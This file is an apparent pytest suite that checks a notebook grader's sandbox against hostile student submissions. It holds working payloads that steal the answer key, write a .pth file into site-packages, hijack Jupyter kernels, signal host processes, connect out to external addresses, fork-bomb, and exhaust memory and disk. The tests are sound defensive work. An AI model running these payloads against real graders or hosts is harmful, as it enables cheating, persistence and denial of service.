"""Hostile submissions: one attacker per attack class, all graded in ONE sandboxed run beside an honest one.

Every attacker starts from the untouched exercise (all answers None), is told the real host paths (the
solution, the submissions and output folders, the package, the environment, the test's own process id
and a listening socket), and tries its attack. Each test asserts that the attacker earned nothing it did
not compute and that the honest classmate graded in the same run kept full marks, plus the attack's own
trace on the host (no file created or changed, no signal received, no connection accepted, no process
left behind).
"""
from __future__ import annotations

import csv
import os
import signal
import socket
import sysconfig
import threading
import time
import uuid
from pathlib import Path

import nbformat
import psutil
import pytest

import kamlab
from kamlab.grading import sandbox as box
from kamlab.grading.assign import make_exercise
from kamlab.grading.grade import grade

ROOT = Path(__file__).resolve().parent.parent
SOLUTION = ROOT / "tests" / "submissions" / "_solutions" / "ex00_demo.ipynb"
FULL = {"q1_total_margin": 2, "q2_top3": 3, "q3_margins": 2, "q4_loss_makers": 2}
TOKEN = uuid.uuid4().hex[:12]
PACKAGE = Path(kamlab.__file__).resolve().parent
PURELIB = Path(sysconfig.get_paths()["purelib"])

try:
    box.available()
    HAVE_SANDBOX = True
except box.SandboxUnavailable:
    HAVE_SANDBOX = False

pytestmark = [pytest.mark.slow,  # one sandboxed grading run of ten submissions
              pytest.mark.skipif(not HAVE_SANDBOX and os.environ.get("CI") != "true",
                                 reason="bubblewrap is not installed (make test installs it when run as root)")]


def _attack(code: str):
    """The untouched exercise with the attack appended, then the stolen answers (if any) assigned."""
    nb = make_exercise(nbformat.read(SOLUTION, as_version=4))
    nb.cells.insert(len(nb.cells) - 1, nbformat.v4.new_code_cell(code))
    nb.cells.insert(len(nb.cells) - 1, nbformat.v4.new_code_cell(
        "stolen = globals().get('stolen') or {}\n"
        "for _n in ('q1_total_margin', 'q2_top3', 'q3_margins', 'q4_loss_makers'):\n"
        "    if _n in stolen:\n        globals()[_n] = stolen[_n]"))
    return nb


READ_SOLUTION = r'''
import glob, json, os
stolen = {{}}
roots = [{package_parent!r}, {solution_dir!r}, {subs!r}, {out!r}, os.path.expanduser("~"), "/tmp", "/job",
         "/root", "/home", "/work"]
candidates = [{solution!r}] + glob.glob("/tmp/kamlab-*/*") + glob.glob("/tmp/*/answers.json")
for root in roots:
    for dirpath, dirs, files in os.walk(root):
        candidates += [os.path.join(dirpath, f) for f in files if f.endswith((".ipynb", ".json", ".jsonl"))]
        if len(candidates) > 500:
            break
for path in candidates:
    try:
        nb = json.load(open(path))
    except Exception:
        continue
    meta = nb.get("metadata", {{}}).get("kamlab", {{}}) if isinstance(nb, dict) else {{}}
    if meta.get("hidden_parameters"):
        ns = dict(meta["hidden_parameters"])
        for c in nb["cells"]:
            if c["cell_type"] == "code" and "parameters" not in c["metadata"].get("tags", []):
                try:
                    exec("".join(c["source"]), ns)
                except Exception:
                    pass
        stolen = {{k: ns[k] for k in ("q1_total_margin", "q2_top3", "q3_margins", "q4_loss_makers") if k in ns}}
        break
'''

WRITE_OUTSIDE = r'''
import os
targets = [os.path.join({package!r}, "grading", "_pwned_{token}.py"), os.path.join({purelib!r}, "_pwned_{token}.pth"),
           os.path.join({subs!r}, "_pwned_{token}.ipynb"), os.path.join({out!r}, "_pwned_{token}.txt"),
           os.path.join({solution_dir!r}, "_pwned_{token}.ipynb"), os.path.expanduser("~/_pwned_{token}")]
for t in targets:
    try:
        open(t, "w").write("import os; os.environ['PWNED'] = '1'\n")
    except OSError:
        pass
try:
    os.makedirs({out!r}, exist_ok=True)
    open(os.path.join({out!r}, "manual_scores.csv"), "w").write(
        "student_id,question,points,comment\nwrites_outside,q2_top3,3,\nhonest,q2_top3,0,\n")
except OSError:
    pass
for path in [os.path.join({package!r}, "grading", "checks.py"), os.path.join({package!r}, "synth.py")]:
    try:
        os.utime(path, (0, 0))
    except OSError:
        pass
'''

PROCESSES = r'''
import glob, json, os, signal
for sig in (signal.SIGUSR1,):
    try:
        os.kill({pytest_pid}, sig)
    except OSError:
        pass
mine = {{os.getpid(), os.getppid()}}
for d in glob.glob("/proc/[0-9]*"):
    pid = int(d.split("/")[-1])
    try:
        cmd = open(d + "/cmdline", "rb").read()
    except OSError:
        continue
    if pid not in mine and (b"pytest" in cmd or b"kamlab" in cmd):
        try:
            os.kill(pid, signal.SIGUSR1)
        except OSError:
            pass
from jupyter_client import BlockingKernelClient
from ipykernel import get_connection_file
own = os.path.realpath(get_connection_file())
for path in glob.glob("/tmp/kamlab/runtime/kernel-*.json") + glob.glob("/tmp/kamlab-*/**/kernel-*.json", recursive=True):
    if os.path.realpath(path) == own:
        continue
    try:
        c = BlockingKernelClient(connection_file=path)
        c.load_connection_file()
        c.start_channels()
        c.execute("q1_total_margin = -1.0; q2_top3 = None; import os; os._exit(1)")
        c.stop_channels()
    except Exception:
        pass
'''

NETWORK = r'''
import socket
for addr in [("127.0.0.1", {port}), ("1.1.1.1", 80), ("10.0.0.1", 80)]:
    try:
        s = socket.create_connection(addr, timeout=2)
        s.sendall(b"pwned")
        s.close()
    except OSError:
        pass
try:
    listener = socket.socket()
    listener.bind(("0.0.0.0", 0))
    listener.listen()
except OSError:
    pass
'''

OUTLIVE = r'''
import os, subprocess, sys
code = "import time, os\ntime.sleep(6)\nopen({canary!r}, 'w').write('still here')"
for _ in range(2):
    subprocess.Popen([sys.executable, "-c", code, "kamlab-outlive-{token}"], start_new_session=True,
                     stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
if os.fork() == 0:  # a double fork that re-parents to the namespace's first process
    os.setsid()
    if os.fork() == 0:
        os.execv("/bin/sleep", ["sleep", "1{token_digits}"])
    os._exit(0)
'''

FORGE = r'''
import glob, json, os
deep = "[" * 100000 + "]" * 100000
junk = [b"not json at all\n", ("{{\"event\": \"answers\", \"answers\": " + deep + "}}\n").encode(),
        json.dumps({{"event": "kernel", "pid": {pytest_pid}}}).encode() + b"\n",
        json.dumps({{"event": "dead", "cell": "x" * 10}}).encode() + b"\n",
        json.dumps({{"event": "answers", "answers": {{"q1_total_margin": {{"value": {{"$frame": 5}}}}}}}}).encode() + b"\n",
        json.dumps({{"event": "error", "cell": [1], "names": 7}}).encode() + b"\n", b"\xff\xfe\x00 binary\n"]
for fd in glob.glob(f"/proc/{{os.getppid()}}/fd/*"):
    try:
        with open(fd, "wb", buffering=0) as f:
            for line in junk:
                f.write(line)
    except OSError:
        pass
os.makedirs("/tmp/kamlab", exist_ok=True)
open("/tmp/kamlab/answers.json", "w").write(deep)
q2_top3 = deep_list = []
for _ in range(100000):
    deep_list = [deep_list]
q2_top3 = deep_list
'''

MEMORY = r'''
import os, time
for _ in range(6):  # each child stays under the per-process limit; together they are far above the tree's
    if os.fork() == 0:
        blocks = []
        try:
            for _ in range(12):
                blocks.append(bytearray(50 * 1024 * 1024))
                for i in range(0, len(blocks[-1]), 4096):
                    blocks[-1][i] = 1
        except MemoryError:
            pass
        time.sleep(60)
        os._exit(0)
time.sleep(15)
'''

FORK = r'''
import os
made = 0
for _ in range(200):
    try:
        if os.fork() == 0:
            os.execv("/bin/sleep", ["sleep", "2{token_digits}"])
        made += 1
    except OSError:
        break
'''

DISK = r'''
import os
chunk = b"x" * (64 * 1024 * 1024)
for target in ["/tmp/fill.bin", "fill.bin", os.path.expanduser("~/fill.bin"), {out!r} + "/fill.bin"]:
    try:
        with open(target, "wb") as f:
            for _ in range(32):  # 2 GiB
                f.write(chunk)
    except OSError:
        pass
'''

ATTACKS = {"reads_solution": READ_SOLUTION, "writes_outside": WRITE_OUTSIDE, "signals_processes": PROCESSES,
           "network": NETWORK, "outlives_the_run": OUTLIVE, "forges_results": FORGE, "memory_tree": MEMORY,
           "fork_bomb": FORK, "fills_disk": DISK}


@pytest.fixture(scope="module")
def attacked(tmp_path_factory):
    root = tmp_path_factory.mktemp("hostile")
    subs, out, canary = root / "subs", root / "grades", root / "outlived.txt"
    subs.mkdir()
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    server.settimeout(0.5)
    accepted, stop = [], threading.Event()

    def serve():
        while not stop.is_set():
            try:
                conn, _ = server.accept()
                accepted.append(conn.recv(100))
                conn.close()
            except OSError:
                pass

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    received = []
    previous = signal.signal(signal.SIGUSR1, lambda *a: received.append(a[0]))
    values = {"package_parent": str(PACKAGE.parent), "package": str(PACKAGE), "purelib": str(PURELIB),
              "solution": str(SOLUTION), "solution_dir": str(SOLUTION.parent), "subs": str(subs), "out": str(out),
              "token": TOKEN, "token_digits": str(int(TOKEN, 16) % 10**6), "pytest_pid": os.getpid(),
              "port": server.getsockname()[1], "canary": str(canary)}
    nbformat.write(nbformat.read(SOLUTION, as_version=4), subs / "honest.ipynb")
    for name, code in ATTACKS.items():
        nbformat.write(_attack(code.format(**values)), subs / f"{name}.ipynb")
    mtimes = {p: p.stat().st_mtime for p in (PACKAGE / "grading" / "checks.py", PACKAGE / "synth.py")}
    try:
        report = grade(subs, solution=SOLUTION, out=out, workers=2, progress=False, cell_timeout=20, timeout=90,
                       memory_mb=2048)
        time.sleep(7)  # longer than the background writer would wait
    finally:
        signal.signal(signal.SIGUSR1, previous)
        stop.set()
        thread.join(2)
        server.close()
    leftovers = [p.info for p in psutil.process_iter(["pid", "cmdline"])
                 if any(TOKEN in a or str(int(TOKEN, 16) % 10**6) in a for a in (p.info["cmdline"] or []))]
    return {"report": report, "by": {s.student_id: s for s in report.students}, "out": out, "subs": subs,
            "received": received, "accepted": accepted, "canary": canary, "leftovers": leftovers, "mtimes": mtimes,
            "root": root}


def _points(attacked, student):
    return {q.name: q.points for q in attacked["by"][student].questions if not q.manual}


def _nothing_earned_and_honest_full(attacked, attacker):
    assert _points(attacked, attacker) == dict.fromkeys(FULL, 0), attacked["by"][attacker]
    assert _points(attacked, "honest") == FULL
    assert attacked["by"]["honest"].status == "ok"


def test_every_submission_graded_in_one_run(attacked):
    assert set(attacked["by"]) == {"honest", *ATTACKS}
    rows = list(csv.DictReader(open(attacked["out"] / "gradebook.csv")))
    assert {r["student_id"] for r in rows} == {"honest", *ATTACKS}


def test_reading_the_solutions_or_the_answer_key(attacked):
    _nothing_earned_and_honest_full(attacked, "reads_solution")


def test_writing_outside_the_scratch_folder(attacked):
    _nothing_earned_and_honest_full(attacked, "writes_outside")
    pwned = [p for p in (PACKAGE / "grading" / f"_pwned_{TOKEN}.py", PURELIB / f"_pwned_{TOKEN}.pth",
                         attacked["subs"] / f"_pwned_{TOKEN}.ipynb", attacked["out"] / f"_pwned_{TOKEN}.txt",
                         SOLUTION.parent / f"_pwned_{TOKEN}.ipynb", Path.home() / f"_pwned_{TOKEN}") if p.exists()]
    assert pwned == []
    assert {p: p.stat().st_mtime for p in attacked["mtimes"]} == attacked["mtimes"]
    manual = attacked["out"] / "manual_scores.csv"  # the grader's own empty template, nothing else
    assert "writes_outside,q2_top3,3" not in manual.read_text() and "honest,w1_advice,," in manual.read_text()


def test_seeing_or_signalling_other_processes(attacked):
    _nothing_earned_and_honest_full(attacked, "signals_processes")
    assert attacked["received"] == []


def test_reaching_the_network(attacked):
    _nothing_earned_and_honest_full(attacked, "network")
    assert attacked["accepted"] == []


def test_outliving_the_run(attacked):
    _nothing_earned_and_honest_full(attacked, "outlives_the_run")
    assert attacked["leftovers"] == []
    assert not attacked["canary"].exists()


def test_crashing_the_grader_through_its_inputs(attacked):
    _nothing_earned_and_honest_full(attacked, "forges_results")
    assert psutil.pid_exists(os.getpid())  # the forged "kernel pid" event did not make the grader kill itself


def test_exhausting_memory_across_processes(attacked):
    _nothing_earned_and_honest_full(attacked, "memory_tree")
    s = attacked["by"]["memory_tree"]
    assert s.status == "out of memory" and "2048 MiB" in s.detail and "memory_tree.ipynb" in s.detail


def test_forking(attacked):
    _nothing_earned_and_honest_full(attacked, "fork_bomb")
    assert attacked["leftovers"] == []


def test_filling_the_disk(attacked):
    _nothing_earned_and_honest_full(attacked, "fills_disk")
    assert not (attacked["out"] / "fill.bin").exists()
    assert not list(attacked["root"].rglob("fill.bin"))
